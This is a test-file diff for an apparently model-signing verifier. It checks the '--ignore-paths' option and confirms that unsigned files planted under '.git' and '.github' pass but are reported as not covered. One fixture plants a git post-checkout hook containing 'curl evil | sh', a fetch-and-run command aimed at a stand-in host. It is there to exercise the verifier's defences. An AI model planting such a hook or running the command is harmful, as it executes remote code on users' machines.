@@ -150,6 +150,27 @@ describe('content changes (shards method, shard size 1000)', () => {
       verifyCheck('rename a.txt to c.txt', renamed, mismatch({ missing: ['a.txt:0:8'] }), { ignoreUnsigned: true }),
       verifyCheck('case-rename README.md to readme.md', cased, mismatch({ missing: ['README.md:0:8'], extra: ['readme.md'] })),
       verifyCheck('replace a.txt by a folder a.txt/ holding its bytes', dir, mismatch({ missing: ['a.txt:0:8'], extra: ['a.txt/x'] })),
+      {
+        ...verifyCheck('verifier passes --ignore-paths over a signed file', shards, mismatch({ missing: ['w.bin:0:1000', 'w.bin:1000:2000', 'w.bin:2000:3000'] })),
+        lib: () => verifyModel(shards, { trust: { publicKey: k.pub }, ignorePaths: ['w.bin'] }),
+        cli: ['verify', shards, '--key', k.pubFile, '--ignore-paths', 'w.bin'],
+      },
+    ]);
+  });
+});
+
+describe('paths the signature leaves out', () => {
+  it('files planted under a recorded ignore path (.git, .github) pass, and are named as not covered', async () => {
+    const m = copyModel(files, 'ignored');
+    writeTree(m, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n', '.github/workflows/x.yml': 'on: push\n' });
+    const check = (j: { notCovered?: string[] }) => expect(j.notCovered).toEqual(['.git', '.github']);
+    await all([
+      verifyCheck('unsigned files under the recorded ignore paths .git/ and .github/', m, {
+        exit: 0,
+        code: 'OK',
+        libCheck: (o) => check(o.value as { notCovered: string[] }),
+        jsonCheck: check,
+      }),
     ]);
   });
 });
